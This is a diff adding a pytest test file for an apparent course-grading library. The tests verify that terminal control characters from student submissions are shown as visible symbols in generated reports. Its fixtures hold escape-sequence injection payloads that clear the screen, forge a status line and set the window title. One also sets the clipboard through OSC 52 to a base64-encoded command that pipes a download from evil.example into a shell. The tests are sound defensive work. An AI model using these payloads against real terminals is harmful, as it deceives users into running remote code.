@@ -1,0 +1,164 @@
+"""Control characters a submission wrote (an exception's message, what it printed, its
+notebook's metadata) reach no report raw: ``cat instructor/<stem>.md`` in a terminal must
+not clear the screen, draw a forged status, set the window title or the clipboard. Each is
+shown as a symbol (``␛`` for ESC), so the text stays readable and the reader sees it was
+there."""
+
+import json
+
+import pytest
+
+from lablib.grading.judge import summarise
+from lablib.grading.report import (
+    GradescopeResults,
+    HtmlFeedback,
+    InstructorViews,
+    MarkdownFeedback,
+    write_reports,
+)
+from lablib.grading.report.text import md_code_block, md_text
+from lablib.grading.results import Diagnostic, Kind, Status, TestResult
+
+#: Every character no report may hold: C0 controls but line feed and tab, DEL, C1.
+FORBIDDEN = frozenset(
+    [chr(c) for c in range(0x20) if chr(c) not in "\n\t"]
+    + ["\x7f"]
+    + [chr(c) for c in range(0x80, 0xA0)]
+)
+
+#: What the red team's cell raised: clear the screen, draw a forged status, set the
+#: window title and (OSC 52) the clipboard, hide what follows.
+FORGED = (
+    "\n\x1b[2J\x1b[3J\x1b[H# ... mallory (instructor view)\n\nStatus: `ok`; score 8 / 8; 3.1 s\n"
+    "\x1b]0;lablib\x07\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07\x1b[8m"
+)
+#: One line: a C1 control sequence introducer, a carriage return that would overwrite the
+#: line, DEL, backspace, form feed, vertical tab, NEL.
+ONE_LINE = "bad\x9b31mred\rok\x7f\x08\x0c\x0b\x85 end"
+
+
+def _raw(text: str) -> set[str]:
+    return set(text) & FORBIDDEN
+
+
+def _result(lab):
+    public = [t for t in lab.tests if not t.hidden]
+    hidden = [t for t in lab.tests if t.hidden]
+    tests = [
+        TestResult.failed(t, FORGED if i % 2 else ONE_LINE, Kind.ERROR)
+        for i, t in enumerate(public)
+    ] + [TestResult.failed(t, FORGED, Kind.ERROR) for t in hidden]
+    diagnostics = [
+        Diagnostic(
+            ended="crashed\x1b[2J",
+            running="cell \x1b]0;x\x07",
+            attempt=1,
+            detail=FORGED,
+            exit="exited\x1b[H with code 1",
+            output_tail="progress 10%\rprogress 99%\r\n" + FORGED,
+        )
+    ]
+    return summarise(
+        lab,
+        "mallory",
+        "/subs/mallory\x1b[2J.ipynb",
+        tests,
+        Status.of([Kind.CRASHED]),
+        # a notebook's metadata (nbformat_minor) quoted in a note
+        notes=["the notebook says nbformat_minor \x1b]0;owned\x07\x1b[2J\x9b2J"],
+        output=FORGED,
+        diagnostics=diagnostics,
+    )
+
+
+def test_visible_controls_shows_every_control_as_a_symbol():
+    from lablib.grading.report.text import visible_controls
+
+    for c in sorted(FORBIDDEN):
+        shown = visible_controls(f"a{c}b")
+        assert not _raw(shown) and len(shown) == 3, repr(c)
+    assert visible_controls("\x1b[2J\x07\x00\x7f\x9b") == "\u241b[2J\u2407\u2400\u2421?"
+    assert visible_controls("a\tb\nc") == "a\tb\nc"  # tab and line feed stay
+    assert visible_controls("a\r\nb\rc") == "a\nb\u240dc"  # CR LF is a line break; CR alone shows
+    text = "José Núñez 学 ✓ \u00a0\u00ff"  # printable text, Latin-1 included, is untouched
+    assert visible_controls(text) == text
+
+
+def test_the_terminal_and_the_reports_neutralise_the_same_characters():
+    """The command line's messages show '?' for each character the reports show as a
+    symbol (and more: line breaks, characters that show nothing)."""
+    from lablib.cli import _printable
+    from lablib.grading.report.text import visible_controls
+
+    for c in sorted(FORBIDDEN):
+        assert _printable(c) == "?" and visible_controls(c) != c, repr(c)
+
+
+def test_md_text_and_md_code_block_hold_no_control_character():
+    assert not _raw(md_text(FORGED)) and "\u241b\\]52;c;" in md_text(FORGED)
+    block = "\n".join(md_code_block(FORGED, indent="  "))
+    assert not _raw(block) and "\u241b[2J\u241b[3J\u241b[H# ... mallory" in block
+    assert "\u2407" in block  # BEL, shown
+    line = md_text(ONE_LINE)
+    assert not _raw(line) and "bad?31mred\u240dok" in line
+
+
+def test_no_report_carries_a_control_character(fixture_lab, tmp_path):
+    result = _result(fixture_lab)
+    writers = [MarkdownFeedback(), HtmlFeedback(), InstructorViews(), GradescopeResults()]
+    write_reports(tmp_path, fixture_lab, [result], writers=writers)
+    files = [
+        *(tmp_path / "instructor").glob("*.md"),
+        *(tmp_path / "feedback").glob("*.md"),
+        *(tmp_path / "feedback").glob("*.html"),
+    ]
+    assert {p.suffix for p in files} == {".md", ".html"} and len(files) == 3
+    for path in files:
+        text = path.read_text(encoding="utf-8")
+        assert not _raw(text), (path.name, sorted(map(hex, map(ord, _raw(text)))))
+
+    instructor = next((tmp_path / "instructor").glob("*.md")).read_text(encoding="utf-8")
+    # still readable: the forged lines are there, as text inside the fence, marked
+    assert "\u241b[2J\u241b[3J\u241b[H# ... mallory (instructor view)" in instructor
+    assert "\u241b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\u2407" in instructor
+    assert "progress 10%\u240dprogress 99%" in instructor
+    # the note, through md_text (brackets escaped), the C1 control sequence introducer as '?'
+    note = "nbformat_minor \u241b\\]0;owned\u2407\u241b\\[2J?2J"
+    assert note in instructor
+    feedback = next((tmp_path / "feedback").glob("*.md")).read_text(encoding="utf-8")
+    assert note in feedback
+    page = next((tmp_path / "feedback").glob("*.html")).read_text(encoding="utf-8")
+    assert "\u241b[2J\u241b[3J\u241b[H" in page and "bad?31mred\u240dok" in page
+
+    raw = (tmp_path / "results.json").read_text(encoding="utf-8")
+    assert not _raw(raw)
+    data = json.loads(raw)
+
+    def strings(value):
+        if isinstance(value, str):
+            yield value
+        elif isinstance(value, dict):
+            for v in value.values():
+                yield from strings(v)
+        elif isinstance(value, list):
+            for v in value:
+                yield from strings(v)
+
+    for s in strings(data):
+        assert not _raw(s), s
+    outputs = [t["output"] for t in data["tests"]]
+    assert any("\u241b]52;c;" in o for o in outputs)
+    assert any("bad?31mred\u240dok" in o for o in outputs)
+    assert "\u241b]0;owned\u2407" in data["output"]
+
+
+@pytest.mark.parametrize("graded", [True, False])
+def test_results_json_asks_gradescope_for_plain_text(fixture_lab, tmp_path, graded):
+    """Gradescope's documented default renders the top-level output as HTML
+    (``simple_format``): every output and test name is declared ``text``."""
+    results = [_result(fixture_lab)] if graded else []
+    write_reports(tmp_path, fixture_lab, results, writers=[GradescopeResults()])
+    data = json.loads((tmp_path / "results.json").read_text(encoding="utf-8"))
+    assert data["output_format"] == "text"
+    assert data["test_output_format"] == "text"
+    assert data["test_name_format"] == "text"
